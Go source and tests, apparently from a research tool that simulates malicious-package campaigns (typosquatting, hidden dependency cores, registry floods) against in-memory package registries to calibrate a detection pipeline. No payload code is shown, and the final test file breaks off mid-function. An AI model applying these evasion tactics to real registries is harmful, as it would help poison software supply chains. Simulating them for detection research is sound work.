// GenerateBenignPool creates n benign artifacts across purposes with fresh
// names — the "3,500 random legitimate packages" of §VI-A.
func GenerateBenignPool(eco ecosys.Ecosystem, n int, rng *xrand.RNG) []*ecosys.Artifact {
	forge := ecosys.NewNameForge(rng.Derive("benign-names"))
	out := make([]*ecosys.Artifact, 0, n)
	descs := []string{
		"a robust networking toolkit", "streaming data encoders", "command line ergonomics",
		"native build orchestration", "tabular data processing", "structured logging",
	}
	legit := []string{"lodash", "chalk", "debug", "minimist"}
	for i := 0; i < n; i++ {
		purpose := AllPurposes()[i%len(AllPurposes())]
		base := NewBenignBase(fmt.Sprintf("benign-%d", i), eco, purpose, rng.Derive(fmt.Sprint("b", i)))
		coord := ecosys.Coord{Ecosystem: eco, Name: forge.Fresh(), Version: ecosys.Version(rng)}
		var deps []string
		if rng.Bool(0.7) {
			deps = []string{xrand.Pick(rng, legit)}
		}
		out = append(out, base.Instantiate(coord, xrand.Pick(rng, descs), deps))
	}
	return out
}
