package codegen

import (
	"fmt"
	"strings"

	"malgraph/internal/ecosys"
)

// Op is a social-engineering changing operation between two consecutive
// malicious releases (§V-B): OP_i = diff(pkg_i, pkg_i+1).
type Op int

// The five operations of Fig. 9 / Fig. 12.
const (
	OpName        Op = iota + 1 // CN: changing name
	OpVersion                   // CV: changing version
	OpDescription               // CD: changing description
	OpDependency                // CDep: changing dependency
	OpCode                      // CC: changing source code
)

var opNames = map[Op]string{
	OpName:        "CN",
	OpVersion:     "CV",
	OpDescription: "CD",
	OpDependency:  "CDep",
	OpCode:        "CC",
}

// String returns the paper's abbreviation (CN, CV, CD, CDep, CC).
func (o Op) String() string {
	if s, ok := opNames[o]; ok {
		return s
	}
	return fmt.Sprintf("Op(%d)", int(o))
}

// AllOps lists the operations in figure order.
func AllOps() []Op { return []Op{OpName, OpVersion, OpDescription, OpDependency, OpCode} }

// DiffOps classifies which changing operations separate two packages. CN and
// CV are mutually exclusive alternatives (the paper's Fig. 9 percentages sum
// to 100 across CN+CV): a release either reuses the name with a new version
// or takes a new name. CD, CDep and CC are independent flags.
func DiffOps(a, b *ecosys.Artifact) []Op {
	var ops []Op
	if a.Coord.Name != b.Coord.Name {
		ops = append(ops, OpName)
	} else if a.Coord.Version != b.Coord.Version {
		ops = append(ops, OpVersion)
	}
	if a.Description != b.Description {
		ops = append(ops, OpDescription)
	}
	if !sameDeps(a, b) {
		ops = append(ops, OpDependency)
	}
	if a.MergedSource() != b.MergedSource() {
		ops = append(ops, OpCode)
	}
	return ops
}

func sameDeps(a, b *ecosys.Artifact) bool {
	da, db := ManifestDeps(a), ManifestDeps(b)
	if len(da) != len(db) {
		return false
	}
	set := make(map[string]bool, len(da))
	for _, d := range da {
		set[d] = true
	}
	for _, d := range db {
		if !set[d] {
			return false
		}
	}
	return true
}

// ManifestDeps extracts the declared dependency names from an artifact's
// manifest. It understands the three manifest formats emitted by this
// package; depscan performs the fuller, registry-grade parse.
func ManifestDeps(a *ecosys.Artifact) []string {
	m, ok := a.Manifest()
	if !ok {
		return nil
	}
	var deps []string
	switch a.Coord.Ecosystem {
	case ecosys.PyPI:
		for _, line := range strings.Split(m.Content, "\n") {
			line = strings.TrimSpace(line)
			if line != "" && !strings.HasPrefix(line, "#") {
				deps = append(deps, line)
			}
		}
	case ecosys.RubyGems:
		for _, line := range strings.Split(m.Content, "\n") {
			line = strings.TrimSpace(line)
			if rest, ok := strings.CutPrefix(line, "s.add_dependency "); ok {
				deps = append(deps, strings.Trim(rest, "\"'"))
			}
		}
	default:
		// package.json "dependencies": {"a": "^1.0.0", ...}
		_, after, found := strings.Cut(m.Content, "\"dependencies\": {")
		if !found {
			return nil
		}
		inner, _, found := strings.Cut(after, "}")
		if !found {
			return nil
		}
		for _, pair := range strings.Split(inner, ",") {
			name, _, ok := strings.Cut(strings.TrimSpace(pair), ":")
			if !ok {
				continue
			}
			name = strings.Trim(strings.TrimSpace(name), "\"")
			if name != "" {
				deps = append(deps, name)
			}
		}
	}
	return deps
}

// ChangedLines counts how many lines differ between two sources using an
// LCS-free multiset diff: lines present in one side but not the other,
// halved (a one-line edit counts as ~1, matching the paper's "average 0.88
// lines changed" measurement style).
func ChangedLines(a, b string) int {
	countA := lineMultiset(a)
	countB := lineMultiset(b)
	diff := 0
	for line, n := range countA {
		if m := countB[line]; n > m {
			diff += n - m
		}
	}
	for line, n := range countB {
		if m := countA[line]; n > m {
			diff += n - m
		}
	}
	return (diff + 1) / 2
}

func lineMultiset(s string) map[string]int {
	out := make(map[string]int)
	for _, line := range strings.Split(s, "\n") {
		line = strings.TrimSpace(line)
		if line != "" {
			out[line]++
		}
	}
	return out
}
