// Package attacker simulates the threat actors behind the paper's corpus.
// Each campaign type reproduces one attack pattern from §V:
//
//   - Similar-code campaigns (§V-B): one code base released repeatedly under
//     fresh names (CN ≈ 88.65%) or bumped versions (CV ≈ 11.35%), with
//     occasional description (CD), dependency (CDep) and ~1-line code (CC)
//     changes — Fig. 4's repeating attack.
//   - Dependent-hidden campaigns (§V-C, Fig. 5): a malicious dependency
//     package plus front packages that hide behind it via manifest and/or
//     source imports.
//   - Registry floods (§II, Fig. 7): thousands of packages in days, the
//     Feb-2023 PyPI event.
//   - Singletons: one-off packages with unique code bases.
//
// The simulator releases every package into the root registry with a
// detection/takedown time, and keeps a ground-truth ledger that calibration
// tests compare pipeline output against.
package attacker

import (
	"fmt"
	"time"

	"malgraph/internal/codegen"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/xrand"
)

// CampaignKind classifies an attack campaign.
type CampaignKind int

// Campaign kinds.
const (
	KindSimilarCode CampaignKind = iota + 1
	KindDependentHidden
	KindFlood
	KindSingleton
)

var kindNames = map[CampaignKind]string{
	KindSimilarCode:     "similar-code",
	KindDependentHidden: "dependent-hidden",
	KindFlood:           "flood",
	KindSingleton:       "singleton",
}

// String names the campaign kind.
func (k CampaignKind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("CampaignKind(%d)", int(k))
}

// PackageRecord is the ground truth for one released malicious package.
type PackageRecord struct {
	Artifact   *ecosys.Artifact
	ReleasedAt time.Time
	RemovedAt  time.Time
	CampaignID string
	Kind       CampaignKind
	CodeBaseID string
	IsDepCore  bool // true for the hidden dependency package of a dep campaign
}

// Campaign is the ground truth for one attack campaign.
type Campaign struct {
	ID       string
	Kind     CampaignKind
	Eco      ecosys.Ecosystem
	Payload  codegen.PayloadKind // primary payload family (0 when mixed)
	Packages []*PackageRecord
	DepCores []string // names of hidden dependency packages (dep campaigns)
}

// ActivePeriod returns t_last − t_first over the campaign's releases (§V-B).
func (c *Campaign) ActivePeriod() time.Duration {
	if len(c.Packages) == 0 {
		return 0
	}
	first, last := c.Packages[0].ReleasedAt, c.Packages[0].ReleasedAt
	for _, p := range c.Packages[1:] {
		if p.ReleasedAt.Before(first) {
			first = p.ReleasedAt
		}
		if p.ReleasedAt.After(last) {
			last = p.ReleasedAt
		}
	}
	return last.Sub(first)
}

// OpRates are the per-release probabilities of each changing operation,
// calibrated against Fig. 9.
type OpRates struct {
	Rename      float64 // CN vs CV split: P(new name); else bump version
	Description float64 // P(CD)
	Dependency  float64 // P(CDep)
	Code        float64 // P(CC)
}

// PaperOpRates returns Fig. 9's measured distribution.
func PaperOpRates() OpRates {
	return OpRates{Rename: 0.8865, Description: 0.0797, Dependency: 0.0176, Code: 0.5934}
}

// Simulator creates campaigns and publishes their packages to a fleet.
type Simulator struct {
	rng    *xrand.RNG
	fleet  *registry.Fleet
	forges map[ecosys.Ecosystem]*ecosys.NameForge
	nextID int
}

// NewSimulator returns a simulator drawing from the given stream and
// releasing into fleet.
func NewSimulator(rng *xrand.RNG, fleet *registry.Fleet) *Simulator {
	return &Simulator{
		rng:    rng,
		fleet:  fleet,
		forges: make(map[ecosys.Ecosystem]*ecosys.NameForge),
	}
}

func (s *Simulator) forge(eco ecosys.Ecosystem) *ecosys.NameForge {
	f, ok := s.forges[eco]
	if !ok {
		f = ecosys.NewNameForge(s.rng.Derive("forge/" + eco.String()))
		s.forges[eco] = f
	}
	return f
}

func (s *Simulator) campaignID(kind CampaignKind, eco ecosys.Ecosystem) string {
	s.nextID++
	return fmt.Sprintf("%s-%s-%04d", kind, eco, s.nextID)
}

// publish releases a record into the root registry and registers takedown.
func (s *Simulator) publish(rec *PackageRecord) error {
	root, ok := s.fleet.Root(rec.Artifact.Coord.Ecosystem)
	if !ok {
		return fmt.Errorf("attacker: no root registry for %s", rec.Artifact.Coord.Ecosystem)
	}
	if err := root.Publish(rec.Artifact, rec.ReleasedAt, true); err != nil {
		return fmt.Errorf("attacker publish: %w", err)
	}
	if !rec.RemovedAt.IsZero() {
		if err := root.Remove(rec.Artifact.Coord, rec.RemovedAt); err != nil {
			return fmt.Errorf("attacker takedown: %w", err)
		}
	}
	return nil
}

// SimilarConfig parameterises one similar-code campaign.
type SimilarConfig struct {
	Eco        ecosys.Ecosystem
	Size       int           // number of releases
	Start      time.Time     // first release instant
	Active     time.Duration // t_last − t_first target
	Rates      OpRates
	Takedown   TakedownModel
	Payload    codegen.PayloadKind
	SquatNames bool // typosquat popular packages vs fresh names
}

// TakedownModel draws per-package persistence (release → removal delay).
type TakedownModel struct {
	MeanDays float64 // mean persistence in days
	MinHours float64 // lower bound in hours
}

func (m TakedownModel) draw(rng *xrand.RNG) time.Duration {
	if m.MeanDays <= 0 {
		m.MeanDays = 3
	}
	days := rng.ExpFloat64() * m.MeanDays
	d := time.Duration(days * 24 * float64(time.Hour))
	if minD := time.Duration(m.MinHours * float64(time.Hour)); d < minD {
		d = minD
	}
	return d
}

// SimilarCampaign runs one repeated-attempt campaign and publishes every
// release. The first release uses a fresh code base; each subsequent release
// applies the changing operations drawn from cfg.Rates.
func (s *Simulator) SimilarCampaign(cfg SimilarConfig) (*Campaign, error) {
	if cfg.Size < 1 {
		return nil, fmt.Errorf("attacker: similar campaign size %d", cfg.Size)
	}
	rng := s.rng.Derive("similar/" + cfg.Start.String() + cfg.Eco.String() + fmt.Sprint(s.nextID))
	c := &Campaign{ID: s.campaignID(KindSimilarCode, cfg.Eco), Kind: KindSimilarCode, Eco: cfg.Eco, Payload: cfg.Payload}
	cb := codegen.NewCodeBase(c.ID+"/cb", cfg.Eco, cfg.Payload, rng.Derive("cb"))

	name := s.nextName(cfg.Eco, cfg.SquatNames)
	version := ecosys.Version(rng)
	desc := description(rng)
	deps := initialDeps(cfg.Eco, rng)
	ioc := cb.IoC

	releaseTimes := spreadTimes(rng, cfg.Start, cfg.Active, cfg.Size)
	for i := 0; i < cfg.Size; i++ {
		if i > 0 {
			if rng.Bool(cfg.Rates.Rename) {
				name = s.nextName(cfg.Eco, cfg.SquatNames)
				version = ecosys.Version(rng)
			} else {
				version = ecosys.BumpVersion(version)
			}
			if rng.Bool(cfg.Rates.Description) {
				desc = description(rng)
			}
			if rng.Bool(cfg.Rates.Dependency) {
				deps = toggleDep(deps, cfg.Eco, rng)
			}
			if rng.Bool(cfg.Rates.Code) {
				ioc = codegen.RandomIoC(rng.Derive(fmt.Sprintf("ioc%d", i)))
			}
		}
		coord := ecosys.Coord{Ecosystem: cfg.Eco, Name: name, Version: version}
		art := cb.Instantiate(coord, codegen.Options{
			Description:  desc,
			Dependencies: append([]string(nil), deps...),
			IoCOverride:  &ioc,
		})
		rec := &PackageRecord{
			Artifact:   art,
			ReleasedAt: releaseTimes[i],
			CampaignID: c.ID,
			Kind:       KindSimilarCode,
			CodeBaseID: cb.ID,
		}
		rec.RemovedAt = rec.ReleasedAt.Add(cfg.Takedown.draw(rng))
		if err := s.publish(rec); err != nil {
			return nil, err
		}
		c.Packages = append(c.Packages, rec)
	}
	return c, nil
}

// DepSpec describes one hidden dependency package and its front count,
// mirroring Table VIII rows ("urllib" reused by 448 fronts, ...).
type DepSpec struct {
	Name   string
	Fronts int
}

// DepHiddenConfig parameterises one dependent-hidden campaign (one connected
// subgraph of Table VII).
type DepHiddenConfig struct {
	Eco      ecosys.Ecosystem
	Specs    []DepSpec
	Start    time.Time
	Active   time.Duration
	Takedown TakedownModel
	// Bridges adds fronts depending on two cores so multi-core campaigns
	// form one connected subgraph (the paper's "largest subgraph is formed
	// by multiple dependencies reused by different malicious packages").
	Bridges int
}

// DependentHiddenCampaign publishes the hidden dependency packages first,
// then their fronts (Fig. 5 steps 1–3).
func (s *Simulator) DependentHiddenCampaign(cfg DepHiddenConfig) (*Campaign, error) {
	if len(cfg.Specs) == 0 {
		return nil, fmt.Errorf("attacker: dependent-hidden campaign needs specs")
	}
	rng := s.rng.Derive("dephidden/" + cfg.Start.String() + cfg.Eco.String() + fmt.Sprint(s.nextID))
	c := &Campaign{ID: s.campaignID(KindDependentHidden, cfg.Eco), Kind: KindDependentHidden, Eco: cfg.Eco}

	totalFronts := cfg.Bridges + 2*(len(cfg.Specs)-1)
	for _, spec := range cfg.Specs {
		totalFronts += spec.Fronts
	}
	times := spreadTimes(rng, cfg.Start, cfg.Active, totalFronts+len(cfg.Specs))
	ti := 0

	// Release the dependency cores first; cores persist longer than fronts
	// (they must stay installable for the attack to trigger).
	coreCoords := make([]ecosys.Coord, 0, len(cfg.Specs))
	for _, spec := range cfg.Specs {
		if !s.forge(cfg.Eco).ClaimExact(spec.Name) {
			return nil, fmt.Errorf("attacker: dependency name %q already taken", spec.Name)
		}
		cb := codegen.NewCodeBase(c.ID+"/core/"+spec.Name, cfg.Eco, codegen.PayloadEnvExfil, rng.Derive("core"+spec.Name))
		coord := ecosys.Coord{Ecosystem: cfg.Eco, Name: spec.Name, Version: ecosys.Version(rng)}
		rec := &PackageRecord{
			Artifact:   cb.Instantiate(coord, codegen.Options{Description: description(rng)}),
			ReleasedAt: times[ti],
			CampaignID: c.ID,
			Kind:       KindDependentHidden,
			CodeBaseID: cb.ID,
			IsDepCore:  true,
		}
		ti++
		rec.RemovedAt = rec.ReleasedAt.Add(cfg.Takedown.draw(rng) + 5*24*time.Hour)
		if err := s.publish(rec); err != nil {
			return nil, err
		}
		c.Packages = append(c.Packages, rec)
		c.DepCores = append(c.DepCores, spec.Name)
		coreCoords = append(coreCoords, coord)
	}

	emitFront := func(depNames []string) error {
		payload := xrand.Pick(rng, codegen.AllPayloads())
		cb := codegen.NewCodeBase(fmt.Sprintf("%s/front/%d", c.ID, ti), cfg.Eco, payload, rng.Derive(fmt.Sprint("front", ti)))
		coord := ecosys.Coord{Ecosystem: cfg.Eco, Name: s.nextName(cfg.Eco, rng.Bool(0.5)), Version: ecosys.Version(rng)}
		opts := codegen.Options{Description: description(rng)}
		// Hide the dependency in the manifest, the source, or both —
		// exercising both §III-C extraction channels.
		switch rng.Intn(3) {
		case 0:
			opts.Dependencies = depNames
		case 1:
			opts.ImportDeps = depNames
		default:
			opts.Dependencies = depNames
			opts.ImportDeps = depNames
		}
		rec := &PackageRecord{
			Artifact:   cb.Instantiate(coord, opts),
			ReleasedAt: times[ti],
			CampaignID: c.ID,
			Kind:       KindDependentHidden,
			CodeBaseID: cb.ID,
		}
		ti++
		rec.RemovedAt = rec.ReleasedAt.Add(cfg.Takedown.draw(rng))
		if err := s.publish(rec); err != nil {
			return err
		}
		c.Packages = append(c.Packages, rec)
		return nil
	}

	for si, spec := range cfg.Specs {
		for f := 0; f < spec.Fronts; f++ {
			if err := emitFront([]string{coreCoords[si].Name}); err != nil {
				return nil, err
			}
		}
	}
	// Chain bridges: two fronts per consecutive core pair keep a multi-core
	// campaign one connected subgraph (the paper's largest dependency
	// subgraph is "formed by multiple dependencies reused by different
	// malicious packages"); redundancy survives takedown-induced losses.
	for si := 1; si < len(coreCoords); si++ {
		for dup := 0; dup < 2; dup++ {
			if err := emitFront([]string{coreCoords[si-1].Name, coreCoords[si].Name}); err != nil {
				return nil, err
			}
		}
	}
	for b := 0; b < cfg.Bridges && len(coreCoords) >= 2; b++ {
		i := rng.Intn(len(coreCoords))
		j := (i + 1 + rng.Intn(len(coreCoords)-1)) % len(coreCoords)
		if err := emitFront([]string{coreCoords[i].Name, coreCoords[j].Name}); err != nil {
			return nil, err
		}
	}
	return c, nil
}

// FloodConfig parameterises a registry-flood campaign.
type FloodConfig struct {
	Eco      ecosys.Ecosystem
	Size     int
	Start    time.Time
	Window   time.Duration // all releases land inside this window
	Takedown TakedownModel
}

// FloodCampaign models the Feb-2023 PyPI registration flood: one code base,
// thousands of fresh names, takedown within hours.
func (s *Simulator) FloodCampaign(cfg FloodConfig) (*Campaign, error) {
	if cfg.Size < 1 {
		return nil, fmt.Errorf("attacker: flood size %d", cfg.Size)
	}
	rng := s.rng.Derive("flood/" + cfg.Start.String() + fmt.Sprint(s.nextID))
	c := &Campaign{ID: s.campaignID(KindFlood, cfg.Eco), Kind: KindFlood, Eco: cfg.Eco, Payload: codegen.PayloadDropboxFetch}
	cb := codegen.NewCodeBase(c.ID+"/cb", cfg.Eco, codegen.PayloadDropboxFetch, rng.Derive("cb"))
	times := spreadTimes(rng, cfg.Start, cfg.Window, cfg.Size)
	desc := description(rng)
	for i := 0; i < cfg.Size; i++ {
		coord := ecosys.Coord{Ecosystem: cfg.Eco, Name: s.forge(cfg.Eco).Fresh(), Version: "1.0.0"}
		rec := &PackageRecord{
			Artifact:   cb.Instantiate(coord, codegen.Options{Description: desc}),
			ReleasedAt: times[i],
			CampaignID: c.ID,
			Kind:       KindFlood,
			CodeBaseID: cb.ID,
		}
		rec.RemovedAt = rec.ReleasedAt.Add(cfg.Takedown.draw(rng))
		if err := s.publish(rec); err != nil {
			return nil, err
		}
		c.Packages = append(c.Packages, rec)
	}
	return c, nil
}

// Singleton publishes one standalone malicious package with a unique code
// base.
func (s *Simulator) Singleton(eco ecosys.Ecosystem, at time.Time, takedown TakedownModel) (*Campaign, error) {
	rng := s.rng.Derive("singleton/" + at.String() + eco.String() + fmt.Sprint(s.nextID))
	c := &Campaign{ID: s.campaignID(KindSingleton, eco), Kind: KindSingleton, Eco: eco}
	payload := xrand.Pick(rng, codegen.AllPayloads())
	c.Payload = payload
	cb := codegen.NewCodeBase(c.ID+"/cb", eco, payload, rng.Derive("cb"))
	coord := ecosys.Coord{Ecosystem: eco, Name: s.nextName(eco, rng.Bool(0.6)), Version: ecosys.Version(rng)}
	rec := &PackageRecord{
		Artifact: cb.Instantiate(coord, codegen.Options{
			Description:  description(rng),
			Dependencies: initialDeps(eco, rng),
		}),
		ReleasedAt: at,
		CampaignID: c.ID,
		Kind:       KindSingleton,
		CodeBaseID: cb.ID,
	}
	rec.RemovedAt = at.Add(takedown.draw(rng))
	if err := s.publish(rec); err != nil {
		return nil, err
	}
	c.Packages = append(c.Packages, rec)
	return c, nil
}

func (s *Simulator) nextName(eco ecosys.Ecosystem, squat bool) string {
	if squat {
		return s.forge(eco).Squat(eco)
	}
	return s.forge(eco).Fresh()
}

// spreadTimes places n instants across [start, start+active] with the first
// at start and the last at start+active (so the campaign's measured active
// period equals the target), and the rest uniform in between, sorted.
func spreadTimes(rng *xrand.RNG, start time.Time, active time.Duration, n int) []time.Time {
	if n == 1 || active <= 0 {
		out := make([]time.Time, n)
		for i := range out {
			out[i] = start
		}
		return out
	}
	out := make([]time.Time, 0, n)
	out = append(out, start)
	inner := make([]time.Duration, 0, n-2)
	for i := 0; i < n-2; i++ {
		inner = append(inner, time.Duration(rng.Float64()*float64(active)))
	}
	sortDurations(inner)
	for _, d := range inner {
		out = append(out, start.Add(d))
	}
	out = append(out, start.Add(active))
	return out
}

func sortDurations(ds []time.Duration) {
	for i := 1; i < len(ds); i++ {
		for j := i; j > 0 && ds[j] < ds[j-1]; j-- {
			ds[j], ds[j-1] = ds[j-1], ds[j]
		}
	}
}

// legitDeps are real, benign dependency names a similar-code campaign may
// declare during a CDep operation. The list deliberately avoids any name a
// dependent-hidden core ever squats (urllib3, rest-client, ...), otherwise a
// CDep toggle would wire unrelated campaigns into the dependency subgraphs.
var legitDeps = map[ecosys.Ecosystem][]string{
	ecosys.PyPI:     {"numpy", "django", "flask", "pillow", "cryptography", "pytest"},
	ecosys.NPM:      {"lodash", "express", "react", "axios", "moment", "chalk"},
	ecosys.RubyGems: {"rails", "rake", "rack", "nokogiri", "puma", "sinatra"},
}

// initialDeps gives a campaign's manifests a plausible starting dependency
// list (0–2 legit packages); real malware routinely declares benign
// dependencies to look normal.
func initialDeps(eco ecosys.Ecosystem, rng *xrand.RNG) []string {
	legit := legitDeps[eco]
	if len(legit) == 0 {
		legit = legitDeps[ecosys.NPM]
	}
	switch rng.Intn(3) {
	case 0:
		return nil
	case 1:
		return []string{xrand.Pick(rng, legit)}
	default:
		a := rng.Intn(len(legit))
		b := (a + 1 + rng.Intn(len(legit)-1)) % len(legit)
		return []string{legit[a], legit[b]}
	}
}

func toggleDep(deps []string, eco ecosys.Ecosystem, rng *xrand.RNG) []string {
	legit := legitDeps[eco]
	if len(legit) == 0 {
		legit = legitDeps[ecosys.NPM]
	}
	if len(deps) > 0 && rng.Bool(0.5) {
		return deps[:len(deps)-1]
	}
	return append(append([]string(nil), deps...), xrand.Pick(rng, legit))
}

var descWords = []string{
	"a fast and lightweight helper library", "the best toolkit for modern apps",
	"simple utilities for everyday development", "high performance network client",
	"a drop-in replacement with extra features", "official community build",
	"tools for data processing pipelines", "convenience wrappers for the standard library",
}

func description(rng *xrand.RNG) string { return xrand.Pick(rng, descWords) }
