package attacker

import (
	"testing"
	"time"

	"malgraph/internal/codegen"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/xrand"
)

var start = time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC)

func newFixture() (*Simulator, *registry.Fleet) {
	fleet := registry.NewFleet()
	for _, eco := range ecosys.Big3() {
		fleet.AddRoot(registry.New(eco.String()+"-root", eco))
	}
	return NewSimulator(xrand.New(99), fleet), fleet
}

func TestSimilarCampaignShape(t *testing.T) {
	sim, fleet := newFixture()
	c, err := sim.SimilarCampaign(SimilarConfig{
		Eco:      ecosys.NPM,
		Size:     20,
		Start:    start,
		Active:   10 * 24 * time.Hour,
		Rates:    PaperOpRates(),
		Takedown: TakedownModel{MeanDays: 2},
		Payload:  codegen.PayloadBeaconC2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Packages) != 20 {
		t.Fatalf("size = %d", len(c.Packages))
	}
	if got := c.ActivePeriod(); got != 10*24*time.Hour {
		t.Fatalf("active period = %v, want 10d", got)
	}
	root, _ := fleet.Root(ecosys.NPM)
	if root.Count() != 20 {
		t.Fatalf("registry has %d packages", root.Count())
	}
	// All packages share the campaign's code base.
	for _, p := range c.Packages {
		if p.CodeBaseID != c.Packages[0].CodeBaseID {
			t.Fatal("similar campaign must reuse one code base")
		}
		if p.RemovedAt.IsZero() || !p.RemovedAt.After(p.ReleasedAt) {
			t.Fatal("every malicious package must eventually be removed after release")
		}
	}
}

func TestSimilarCampaignCoordinatesUnique(t *testing.T) {
	sim, _ := newFixture()
	c, err := sim.SimilarCampaign(SimilarConfig{
		Eco: ecosys.PyPI, Size: 50, Start: start, Active: 5 * 24 * time.Hour,
		Rates: PaperOpRates(), Takedown: TakedownModel{MeanDays: 1},
		Payload: codegen.PayloadEnvExfil,
	})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, p := range c.Packages {
		key := p.Artifact.Coord.Key()
		if seen[key] {
			t.Fatalf("duplicate coordinate %s", key)
		}
		seen[key] = true
	}
}

func TestSimilarCampaignOpMix(t *testing.T) {
	sim, _ := newFixture()
	c, err := sim.SimilarCampaign(SimilarConfig{
		Eco: ecosys.NPM, Size: 400, Start: start, Active: 40 * 24 * time.Hour,
		Rates: PaperOpRates(), Takedown: TakedownModel{MeanDays: 2},
		Payload: codegen.PayloadCredentialTheft,
	})
	if err != nil {
		t.Fatal(err)
	}
	var cn, cv, cc int
	for i := 1; i < len(c.Packages); i++ {
		ops := codegen.DiffOps(c.Packages[i-1].Artifact, c.Packages[i].Artifact)
		for _, op := range ops {
			switch op {
			case codegen.OpName:
				cn++
			case codegen.OpVersion:
				cv++
			case codegen.OpCode:
				cc++
			}
		}
	}
	total := float64(cn + cv)
	if total == 0 {
		t.Fatal("no name/version ops observed")
	}
	cnFrac := float64(cn) / total
	if cnFrac < 0.8 || cnFrac > 0.96 {
		t.Fatalf("CN fraction %v far from Fig. 9's 0.8865", cnFrac)
	}
	ccFrac := float64(cc) / float64(len(c.Packages)-1)
	if ccFrac < 0.45 || ccFrac > 0.75 {
		t.Fatalf("CC fraction %v far from Fig. 9's 0.5934", ccFrac)
	}
}

func TestDependentHiddenCampaign(t *testing.T) {
	sim, fleet := newFixture()
	c, err := sim.DependentHiddenCampaign(DepHiddenConfig{
		Eco:    ecosys.PyPI,
		Specs:  []DepSpec{{Name: "urllib", Fronts: 10}, {Name: "request", Fronts: 5}},
		Start:  start,
		Active: 8 * 24 * time.Hour,
		Takedown: TakedownModel{
			MeanDays: 2,
		},
		Bridges: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	// 2 cores + 15 fronts + 2 chain bridges (one core pair) + 2 extras.
	if len(c.Packages) != 2+10+5+2+2 {
		t.Fatalf("package count = %d", len(c.Packages))
	}
	if len(c.DepCores) != 2 {
		t.Fatalf("dep cores = %v", c.DepCores)
	}
	root, _ := fleet.Root(ecosys.PyPI)
	if _, ok := root.Release(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "urllib", Version: c.Packages[0].Artifact.Coord.Version}); !ok {
		t.Fatal("urllib core not published")
	}

	// Every front must reference at least one core via manifest or source.
	cores := map[string]bool{"urllib": true, "request": true}
	for _, p := range c.Packages {
		if p.IsDepCore {
			continue
		}
		found := false
		for _, d := range codegen.ManifestDeps(p.Artifact) {
			if cores[d] {
				found = true
			}
		}
		if !found {
			src := p.Artifact.MergedSource()
			for core := range cores {
				if containsImport(src, core) {
					found = true
				}
			}
		}
		if !found {
			t.Fatalf("front %s has no reference to any core", p.Artifact.Coord)
		}
	}
}

func containsImport(src, dep string) bool {
	for _, needle := range []string{"import " + dep, "require('" + dep + "')", "require '" + dep + "'"} {
		if contains(src, needle) {
			return true
		}
	}
	return false
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(s) > 0 && index(s, sub) >= 0)
}

func index(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func TestDependentHiddenNameClash(t *testing.T) {
	sim, _ := newFixture()
	_, err := sim.DependentHiddenCampaign(DepHiddenConfig{
		Eco: ecosys.PyPI, Specs: []DepSpec{{Name: "urllib", Fronts: 1}},
		Start: start, Active: 24 * time.Hour, Takedown: TakedownModel{MeanDays: 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sim.DependentHiddenCampaign(DepHiddenConfig{
		Eco: ecosys.PyPI, Specs: []DepSpec{{Name: "urllib", Fronts: 1}},
		Start: start.AddDate(0, 1, 0), Active: 24 * time.Hour, Takedown: TakedownModel{MeanDays: 1},
	}); err == nil {
		t.Fatal("reusing a dependency core name must fail")
	}
}

func TestFloodCampaign(t *testing.T) {
	sim, fleet := newFixture()
	c, err := sim.FloodCampaign(FloodConfig{
		Eco: ecosys.PyPI, Size: 300, Start: time.Date(2023, 2, 10, 0, 0, 0, 0, time.UTC),
		Window:   48 * time.Hour,
		Takedown: TakedownModel{MeanDays: 0.1, MinHours: 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Packages) != 300 {
		t.Fatalf("flood size = %d", len(c.Packages))
	}
	if c.ActivePeriod() > 48*time.Hour {
		t.Fatalf("flood window exceeded: %v", c.ActivePeriod())
	}
	for _, p := range c.Packages {
		if p.CodeBaseID != c.Packages[0].CodeBaseID {
			t.Fatal("flood must reuse one code base")
		}
	}
	root, _ := fleet.Root(ecosys.PyPI)
	if root.Count() != 300 {
		t.Fatalf("registry count = %d", root.Count())
	}
}

func TestSingleton(t *testing.T) {
	sim, _ := newFixture()
	c, err := sim.Singleton(ecosys.RubyGems, start, TakedownModel{MeanDays: 5})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Packages) != 1 || c.Kind != KindSingleton {
		t.Fatalf("singleton shape wrong: %+v", c)
	}
	if c.ActivePeriod() != 0 {
		t.Fatalf("singleton active period = %v", c.ActivePeriod())
	}
}

func TestCampaignKindString(t *testing.T) {
	if KindSimilarCode.String() != "similar-code" || KindFlood.String() != "flood" {
		t.Fatal("kind names wrong")
	}
}

func TestSpreadTimesEndpoints(t *testing.T) {
	rng := xrand.New(5)
	times := spreadTimes(rng, start, 10*24*time.Hour, 7)
	if !times[0].Equal(start) {
		t.Fatalf("first = %v", times[0])
	}
	if !times[len(times)-1].Equal(start.Add(10 * 24 * time.Hour)) {
		t.Fatalf("last = %v", times[len(times)-1])
	}
	for i := 1; i < len(times); i++ {
		if times[i].Before(times[i-1]) {
			t.Fatal("times not sorted")
		}
	}
}

func TestSimilarCampaignInvalidSize(t *testing.T) {
	sim, _ := newFixture()
	if _, err := sim.SimilarCampaign(SimilarConfig{Eco: ecosys.NPM, Size: 0}); err == nil {
		t.Fatal("zero size must fail")
	}
}

func TestDeterministicCampaigns(t *testing.T) {
	simA, _ := newFixture()
	simB, _ := newFixture()
	cfg := SimilarConfig{
		Eco: ecosys.NPM, Size: 10, Start: start, Active: 3 * 24 * time.Hour,
		Rates: PaperOpRates(), Takedown: TakedownModel{MeanDays: 2},
		Payload: codegen.PayloadEnvExfil,
	}
	a, err := simA.SimilarCampaign(cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := simB.SimilarCampaign(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for i := range a.Packages {
		if a.Packages[i].Artifact.Hash() != b.Packages[i].Artifact.Hash() {
